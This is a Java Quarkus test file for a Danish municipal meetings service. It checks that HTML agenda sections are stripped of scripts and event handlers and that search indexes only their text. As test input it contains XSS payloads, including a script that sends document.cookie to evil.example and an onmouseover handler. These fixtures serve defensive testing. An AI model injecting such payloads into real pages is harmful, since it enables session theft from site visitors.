package dk.radhus.meetings;

import static dk.radhus.meetings.Endpoints.call;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;

import dk.radhus.testing.RadhusTestResources;

/** An HTML section written by the secretary is sanitized like a drafted one, and searched by its text only. */
@QuarkusTest
@QuarkusTestResource(value = RadhusTestResources.class, initArgs = @ResourceArg(name = "database", value = "meetings"))
class HtmlSectionTest {

    @Test
    void shouldStripScriptsFromAnHtmlSectionAndSearchOnlyItsText() {
        String word = "kloakering" + TestData.uniqueCode().toLowerCase();
        String meeting = TestData.meeting(TestData.committee());
        String html = "<table><tr><td onmouseover=\"steal()\">" + word + "</td><td>353</td></tr></table>"
                + "<script>document.location='https://evil.example/'+document.cookie</script>";
        String item = TestData.addItem(meeting, item(html));

        String body = call(TestData.SECRETARY, "GET", "/meetings/" + meeting + "/items/" + item, null).statusCode(200)
                .body("sections[0].format", equalTo("HTML")).extract().path("sections[0].body");
        assertThat(body).isEqualTo("<table><tbody><tr><td>" + word + "</td><td>353</td></tr></tbody></table>");
        TestData.transition(meeting, "AGENDA_PUBLISHED");
        call(null, "GET", "/search?q=" + word, null).statusCode(200).body("number", contains(1))
                .body("[0].highlight", not(containsString("<td")));
        call(null, "GET", "/search?q=tbody", null).statusCode(200).body("meetingId", not(hasItem(meeting)));
    }

    @Test
    void shouldRejectAnHtmlSectionWithNothingLeftAfterSanitizing() {
        String meeting = TestData.meeting(TestData.committee());

        call(TestData.SECRETARY, "POST", "/meetings/" + meeting + "/items", item("<script>alert(1)</script>"))
                .statusCode(400).contentType("application/problem+json")
                .body("errors.field", equalTo(List.of("sections[0].body")));
        call(TestData.SECRETARY, "GET", "/meetings/" + meeting + "/items", null).statusCode(200)
                .body("size()", equalTo(0));
    }

    private static Map<String, Object> item(String financesHtml) {
        return Map.of("number", 1, "title", "Budgetopfølgning", "kind", "DECISION", "access", "OPEN",
                "sections", List.of(Map.of("type", "FINANCES", "body", financesHtml, "format", "HTML")));
    }
}
